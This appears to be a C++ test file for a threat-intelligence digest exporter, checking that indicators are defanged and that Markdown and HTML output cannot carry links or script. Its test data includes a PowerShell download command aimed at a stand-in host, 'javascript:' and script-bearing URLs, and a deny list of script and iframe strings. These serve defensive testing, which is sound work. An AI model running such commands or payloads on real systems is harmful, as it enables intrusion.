#include "articles_for_tests.hpp"
#include "core/base/text.hpp"
#include "core/export/digest.hpp"
#include "core/export/harmless.hpp"

#include <algorithm>
#include <limits>
#include <set>

using namespace cti;
using namespace cti::exporter;

namespace {
bool contains(const std::string& text, std::string_view part) { return text.find(part) != std::string::npos; }

// The links of a Markdown text. Fails where anything but them, code spans and bold is not escaped.
std::vector<std::string> links_of_markdown(std::string_view text) {
    std::vector<std::string> links;
    for (std::size_t i = 0; i < text.size(); ++i) {
        if (text[i] == '\\') {
            ++i;
        } else if (text[i] == '`') {
            const auto end = std::min(text.find_first_not_of('`', i), text.size());
            const std::string fence(text.substr(i, end - i));
            auto close = text.find(fence, end); // the next run of the same length
            while (close != text.npos &&
                   (text[close - 1] == '`' || text.substr(close + fence.size(), 1) == "`"))
                close = text.find(fence, close + 1);
            REQUIRE(close != text.npos);
            i = close + fence.size() - 1;
        } else if (text.substr(i, 2) == "](") {
            const auto end = text.find(')', i);
            REQUIRE(end != text.npos);
            links.emplace_back(text.substr(i + 2, end - i - 2));
            i = end;
        } else {
            CHECK(std::string_view("<>&!~$]").find(text[i]) == std::string_view::npos);
        }
    }
    return links;
}

// The tags of a page, which must be of those that the writer makes, with plain attributes; its links.
std::vector<std::string> links_of_html(const std::string& html) {
    static const std::set<std::string, std::less<>> known{
        "!DOCTYPE", "html", "head", "meta", "title", "style", "body", "h1",     "h2",        "h3",
        "p",        "ul",   "li",   "b",    "ol",    "a",     "span", "bdi",    "table",     "tr",
        "th",       "td",   "code", "svg",  "rect",  "line",  "text", "figure", "figcaption"};
    static const std::set<std::string, std::less<>> attributes{
        "lang",   "charset", "http-equiv", "content",    "name", "class",       "rel",
        "href",   "viewBox", "role",       "aria-label", "x",    "y",           "width",
        "height", "x1",      "y1",         "x2",         "y2",   "text-anchor", "html"};
    std::vector<std::string> links;
    for (auto pos = html.find('<'); pos != html.npos; pos = html.find('<', pos + 1)) {
        const auto end = html.find('>', pos);
        REQUIRE(end != html.npos);
        auto tag = std::string_view(html).substr(pos + 1, end - pos - 1);
        if (tag.starts_with('/')) tag.remove_prefix(1);
        if (tag.ends_with('/')) tag.remove_suffix(1);
        const auto name = tag.substr(0, tag.find(' '));
        CHECK(known.contains(name));
        tag.remove_prefix(name.size());
        while (!trim(tag).empty()) { // name="value", or the doctype's word
            tag = trim(tag);
            const auto equals = std::min(tag.find('='), tag.size());
            const auto attribute = tag.substr(0, equals);
            CHECK(attributes.contains(attribute));
            if (equals == tag.size()) break;
            const auto close = tag.find('"', equals + 2);
            REQUIRE(close != tag.npos);
            if (attribute == "href") links.emplace_back(tag.substr(equals + 2, close - equals - 2));
            tag.remove_prefix(close + 1);
        }
    }
    return links;
}
}

TEST_CASE("defang: what could be clicked cannot be, the rest stays") {
    CHECK(defang(IndicatorType::url, "HTTPS://a.example/b.php") == "HxxPS://a[.]example/b[.]php");
    CHECK(defang(IndicatorType::ipv4, "8.8.4.4") == "8[.]8[.]4[.]4");
    CHECK(defang(IndicatorType::email, "a.b@c.example") == "a[.]b[@]c[.]example");
    CHECK(defang(IndicatorType::domain, "xn--bcher-kva.example") == "xn--bcher-kva[.]example");
    CHECK(defang(IndicatorType::filename, "install.sh") == "install.sh");
    CHECK(defang(IndicatorType::file_path, "C:\\Temp\\evil.exe") == "C:\\Temp\\evil.exe");
    CHECK(defang(IndicatorType::file_path, "\\\\evil.example\\share\\a.exe") ==
          "\\\\evil[.]example\\share\\a.exe");
    CHECK(defang(IndicatorType::command_line, "cmd.exe /c x.ps1 http.evil.example") ==
          "cmd.exe /c x.ps1 http[.]evil[.]example");
    CHECK(defang(IndicatorType::command_line,
                 "powershell (New-Object Net.WebClient).DownloadFile('http://a.evil/x')") ==
          "powershell (New-Object Net.WebClient).DownloadFile('http://a[.]evil/x')");
    CHECK(defang(IndicatorType::attack_technique, "T1059.001") == "T1059.001");
    CHECK(defang(IndicatorType::url, "").empty());
}

TEST_CASE("defang_text: addresses in a sentence are broken, versions and abbreviations are not") {
    CHECK(defang_text("See http://a.example/x, https://b.example.") ==
          "See hxxp://a[.]example/x, hxxps://b[.]example.");
    CHECK(defang_text("ftp://x and www.1und1.de") == "ftp[:]//x and www[.]1und1[.]de");
    CHECK(defang_text("C2 at 8.8.4.4. Or 8.8.4.4:443") == "C2 at 8[.]8[.]4[.]4. Or 8[.]8[.]4[.]4:443");
    CHECK(defang_text("me@x.example and @someone") == "me[@]x[.]example and [@]someone");
    CHECK(defang_text("e.g. Chrome 120.0.6099.71, U.S. 3.11... a . b") ==
          "e.g. Chrome 120.0.6099.71, U.S. 3.11... a . b");
    CHECK(defang_text("8.8.4.4，于8.8.4.4。8.8.4.4é") == "8[.]8[.]4[.]4，于8[.]8[.]4[.]4。8[.]8[.]4[.]4é");
    CHECK(defang_text("evil.exe, a.docx and evil.com.exe; evil.com，") ==
          "evil.exe, a.docx and evil[.]com.exe; evil[.]com，");
    CHECK(defang_text("forfiles.exe readme.md ./setup.py run.sh, lib.rs.") ==
          "forfiles.exe readme.md ./setup.py run.sh, lib.rs.");
    CHECK(defang_text("evil.sh/x www.evil.sh a.evil.sh me@evil.sh evil.sh:80 evil.pl") ==
          "evil[.]sh/x www[.]evil[.]sh a[.]evil[.]sh me[@]evil[.]sh evil[.]sh:80 evil[.]pl");
    for (const char* name :
         {"evil.zip", "report.mov, then", "a.so: it", "archive.tar.gz", "invoice.pdf.zip", "invoice.pdf.exe",
          "libc.so.6", "my_tool.v2.zip", "Loader.pl", "report.final.docx", "evil.exe。Next", "ASP.NET",
          "ASP.NET-based", "System.IO", "./evil.pm"})
        CHECK(defang_text(name) == name);
    CHECK(
        defang_text("https://evil.zip www.evil.mov me@evil.zip evil.zip/a login.evil.zip evil.zip:443") ==
        "hxxps://evil[.]zip www[.]evil[.]mov me[@]evil[.]zip evil[.]zip/a login[.]evil[.]zip evil[.]zip:443");
    CHECK(defang(IndicatorType::domain, "evil.zip") == "evil[.]zip");
    CHECK(defang_text("(New-Object Net.WebClient) System.Net.WebClient String.fromCharCode") ==
          "(New-Object Net.WebClient) System.Net.WebClient String.fromCharCode");
    CHECK(defang_text("Evil.Com evil.com.Next Evil.example") ==
          "Evil[.]Com evil[.]com[.]Next Evil[.]example");
    for (const char* next : {"。URL", "”Then", "…And", "\u00A0URL", "—Next", "のURL", "：A"})
        CHECK(defang_text(std::string("e-mail ann@evil-u.com") + next) ==
              std::string("e-mail ann[@]evil-u[.]com") + next);
    CHECK(defang_text("").empty());
    CHECK(defang_text(std::string(2'000'000, '1')).size() == 2'000'000);
}

TEST_CASE("one_line: it is cut, folded and without what turns or controls the text") {
    CHECK(one_line(" a\r\n\tb\x1B[0m \xE2\x80\xAE"
                   "c ",
                   20) == "a b[0m c");
    CHECK(one_line("\xC3\xA4\xC3\xB6\xC3\xBC", 2) == "\xC3\xA4\xC3\xB6…");
    CHECK(one_line("abc", 3) == "abc");
    CHECK(one_line("some words here", 12) == "some words…");
    CHECK(one_line(std::string(5'000'000, ' ') + "x", 3) == "…");
}

TEST_CASE("excerpt: it is defanged before it is cut, and ends with a sentence or a word") {
    CHECK(excerpt("One is here. Two is", 100) == "One is here. Two is");
    CHECK(excerpt("One sentence is here. Another one is cut", 30) == "One sentence is here. …");
    CHECK(excerpt("One. The other sentence is too long for it", 30) == "One. The other sentence is…");
    CHECK(excerpt("Traffic went to evil.example and others", 30) == "Traffic went to…");
    CHECK(excerpt("Is it? It is " + std::string(100, 'x'), 20) == "Is it? It is…");
}

TEST_CASE("web_link: http and https only, and nothing that leaves an attribute or a Markdown link") {
    CHECK(web_link("https://x.example/a?b=c&d#e") == "https://x.example/a?b=c&d#e");
    CHECK(web_link("https://x.example/ \"<>`\\^{|}") == "https://x.example/%20%22%3C%3E%60%5C%5E%7B%7C%7D");
    for (const std::string url : {"javascript:alert(1)", "ftp://x.example/", "https://", "x.example",
                                  "https://u@x.example/", "https://x.example/\nb", "data:text/html,<script>"})
        CHECK(web_link(url).empty());
    CHECK(web_link("https://x.example/" + std::string(3000, 'a')).empty());
}

TEST_CASE("digest: articles are counted by day, source and indicator") {
    Digest digest({});
    digest.add(article_with({finding("domain", "a.example"), finding("cve", "CVE-2026-1")}, 7));
    digest.add(article_with({finding("domain", "a.example"), finding("malware", "Emotet")}, 9));
    auto other = article_with({finding("attack_technique", "T1059")}, 9);
    other.source = "owl", other.source_name = "", other.threat_hunting_score.reset();
    digest.add(other);
    const auto view = digest.view();
    CHECK(view.first_day == "2025-11-17");
    CHECK(view.last_day == "2025-11-19");
    CHECK(view.articles == 3);
    CHECK(view.indicators == 4);
    CHECK(view.bar_unit == "day");
    REQUIRE(view.trend.size() == 3);
    CHECK(view.trend[0].articles == 2);
    CHECK(view.trend[1].articles == 0);
    REQUIRE(view.by_source.size() == 2);
    CHECK(view.by_source[0].name == "Quiet Heron Blog");
    CHECK(view.by_source[0].indicators == 4);
    CHECK(view.by_source[1].name == "owl");
    REQUIRE(view.observables.size() == 1);
    CHECK(view.observables[0].top.at(0).name == "a[.]example");
    CHECK(view.observables[0].top[0].articles == 2);
    CHECK(view.names.at(0).heading == "Malware");
    CHECK(view.vulnerabilities.at(0).top.at(0).name == "CVE-2026-1");
    CHECK(view.techniques.at(0).top.at(0).name == "T1059");
    CHECK(view.techniques[0].top[0].title == "Command and Scripting Interpreter");
}

TEST_CASE("digest: techniques stand with their names and are links to their pages") {
    const auto article = article_with({finding("attack_technique", "T1059.001"),
                                       finding("attack_technique", "T1999"), finding("malware", "Emotet")});
    const auto markdown = render("markdown", {article}), html = render("html", {article});
    CHECK(contains(
        markdown, "- [`T1059.001` PowerShell](https://attack.mitre.org/techniques/T1059/001/): 1 article\n"));
    CHECK(contains(markdown, "- [`T1999`](https://attack.mitre.org/techniques/T1999/): 1 article\n"));
    CHECK(contains(markdown, "- `Emotet`: 1 article\n"));
    CHECK(contains(
        html,
        "href=\"https://attack.mitre.org/techniques/T1059/001/\"><code><bdi>T1059.001</bdi></code> <bdi>PowerShell</bdi></a>"));
    CHECK(links_of_html(html).size() == 3);
}

TEST_CASE(
    "digest: the best articles come first, those without a score last, and no more than there is room for") {
    Digest digest({});
    for (int i = 0; i < 100; ++i) {
        auto article = article_with({}, i);
        article.threat_hunting_score = i % 50;
        if (i == 3) article.threat_hunting_score = std::numeric_limits<double>::quiet_NaN();
        if (i == 4) article.threat_hunting_score.reset();
        digest.add(article);
    }
    const auto view = digest.view();
    REQUIRE(view.top.size() == 20);
    CHECK(view.top[0].score == 49);
    CHECK(view.top[0].id == 49); // newer than 99
    CHECK(view.top[1].id == 99);
    CHECK(view.top[19].score == 40);
    Digest few({});
    auto plain = article_with({}, 1), scored = article_with({}, 2);
    plain.threat_hunting_score.reset(), scored.threat_hunting_score = 0;
    few.add(plain), few.add(scored);
    CHECK(few.view().top[0].id == 2);
}

TEST_CASE("digest: what was asked for is the period, to the last day that belongs to it") {
    Digest digest(
        {.since = at(1'763'510'400 - 5 * 86'400), .until = at(1'763'510'400 + 2 * 86'400)}); // midnights
    digest.add(article_with({}));
    const auto view = digest.view();
    CHECK(view.first_day == "2025-11-14");
    CHECK(view.last_day == "2025-11-20");
    CHECK(view.trend.size() == 7);
    CHECK(view.trend[5].articles == 1);
}

TEST_CASE("digest: the picture has a bar for a day, a week, a month or a year, and never many") {
    const std::vector<std::pair<int, std::string>> units{{0, "day"},       {61, "day"},    {62, "week"},
                                                         {400, "week"},    {900, "month"}, {5000, "year"},
                                                         {700'000, "year"}};
    for (const auto& item : units) {
        Digest digest({});
        digest.add(article_with({}, 7));
        digest.add(article_with({}, 7 + item.first));
        const auto view = digest.view();
        CAPTURE(item.first);
        CHECK(view.bar_unit == item.second);
        CHECK(view.trend.size() <= 64);
        CHECK(view.trend.back().articles >= 1);
    }
    Digest digest({}); // what a database may hold
    auto ancient = article_with({}), late = article_with({});
    ancient.published_at = at(-200'000LL * 365 * 86'400), late.published_at = at(200'000LL * 365 * 86'400);
    digest.add(ancient), digest.add(late);
    CHECK(digest.view().trend.size() <= 64);
    CHECK(digest.view().last_day == "9999-12-31");
}

TEST_CASE("digest: more values than can be counted are told as more") {
    Digest digest({});
    std::vector<Finding> findings;
    for (int i = 0; i < 60'000; ++i) findings.push_back(finding("domain", std::to_string(i) + ".example"));
    digest.add(article_with(findings));
    digest.add(article_with({finding("domain", "7.example")}));
    const auto view = digest.view();
    CHECK(view.indicators == 50'000);
    CHECK(view.indicators_at_least);
    CHECK(view.observables[0].at_least);
    CHECK(view.observables[0].top.size() == 10);
    CHECK(view.observables[0].others() == 49'990);
    CHECK(view.observables[0].top[0].name == "7[.]example");
}

TEST_CASE("digest: values come by the number of their articles, then by the best of these, then by name") {
    Digest digest({});
    auto poor = article_with({finding("cve", "CVE-1"), finding("cve", "CVE-2"), finding("cve", "CVE-4")}, 7);
    auto good = article_with({finding("cve", "CVE-5"), finding("cve", "CVE-3"), finding("cve", "CVE-2")}, 8);
    poor.threat_hunting_score.reset();
    digest.add(poor), digest.add(good);
    std::vector<std::string> order;
    const auto view = digest.view();
    for (const auto& value : view.vulnerabilities.at(0).top) order.push_back(value.name);
    CHECK(order == std::vector<std::string>{"CVE-2", "CVE-3", "CVE-5", "CVE-1", "CVE-4"});
}

TEST_CASE("export markdown: a digest as it reads") {
    const auto text =
        render("markdown",
               {article_with({finding("url", "http://evil.example/a"), finding("cve", "CVE-2026-1234")})},
               {.tlp = Tlp::amber});
    CHECK(
        text ==
        "# Threat intelligence digest\n\n2025-11-19 to 2025-11-19 (UTC)\n\n**TLP:AMBER**\n\n"
        "1 article of 1 source, 2 different indicators.\n\n## Articles per day\n\n```text\n"
        "2025-11-19 ████████████████████████████████████████ 1\n```\n\n## Top articles\n\n"
        "1. [Quiet Heron](https://heron.example/7)\\\n   2025-11-19, Quiet Heron Blog, score 88.1\n\n   Short.\n\n"
        "## Sources\n\n| Source | Articles | Indicators | Best score |\n|---|---:|---:|---:|\n| Quiet Heron Blog | 1 | 2 | 88.1 |\n\n"
        "## Vulnerabilities (1)\n\n- `CVE-2026-1234`: 1 article\n\n"
        "## Indicators\n\nDefanged: nothing here is a link.\n\n### URLs (1)\n\n- `hxxp://evil[.]example/a`: 1 article\n");
    CHECK(render("markdown", {}) ==
          "# Threat intelligence digest\n\n0 articles of 0 sources, 0 different indicators.\n");
}

TEST_CASE(
    "export markdown, html: no text gets out of its place, and only articles and techniques are links") {
    auto texts = nasty_texts();
    for (const auto* text :
         {"`a``b```", "`", "a|b", "![x](https://evil.example/p.png)", "<https://evil.example>", "&lt;b&gt;",
          "1. x", "- x", "https://evil.example/x", "www.evil.example", "me@evil.example", "$x$", "\\[x](y)"})
        texts.emplace_back(text);
    texts.emplace_back(5'000'000, '<');
    for (const auto& text : texts) {
        auto article = article_with(
            {finding("mutex", text), finding("url", text), finding("malware", text), finding(text, text)});
        article.title = article.source_name = article.source = text, article.summary = text;
        article.url = "https://heron.example/a(b)&copy=[c]_d_";
        auto unlinked = article;
        unlinked.url = text;
        for (const auto& a : {article, unlinked}) {
            const bool has_link = !web_link(a.url).empty();
            const auto markdown = render("markdown", {a}), html = render("html", {a});
            CHECK(markdown == render("markdown", {a}));
            CHECK(html == render("html", {a}));
            CHECK(markdown.size() < 20'000);
            CHECK(html.size() < 30'000);
            CHECK(is_valid_utf8(markdown));
            const auto links = links_of_markdown(markdown), hrefs = links_of_html(html);
            REQUIRE(links.size() == (has_link ? 1 : 0));
            REQUIRE(hrefs.size() == (has_link ? 1 : 0));
            if (&a == &article) continue;
            if (has_link) CHECK(hrefs[0].starts_with("http"));
        }
        const auto markdown = render("markdown", {article});
        CHECK(links_of_markdown(markdown)[0] == "https://heron.example/a%28b%29&amp;copy=[c]_d_");
        CHECK_FALSE(contains(markdown, "www."));
        CHECK_FALSE(contains(markdown, "evil.example"));
        CHECK_FALSE(contains(render("html", {article}), "evil.example"));
    }
}

TEST_CASE("export html: nothing can run and nothing is loaded") {
    const auto html = render("html", {article_with({finding("domain", "evil.example")})});
    CHECK(contains(html, "default-src 'none'; style-src 'sha256-"));
    CHECK(contains(html, "color-scheme: light dark"));
    CHECK(contains(html, "<title>Threat intelligence digest, 2025-11-19 to 2025-11-19</title>"));
    for (const auto* word : {"<script", "javascript:", "url(", "@import", "src=", "<img", "<iframe"})
        CHECK_FALSE(contains(html, word));
    CHECK(links_of_html(html) == std::vector<std::string>{"https://heron.example/7"});
    CHECK(contains(render("html", {}), "<b>0</b> articles"));
}
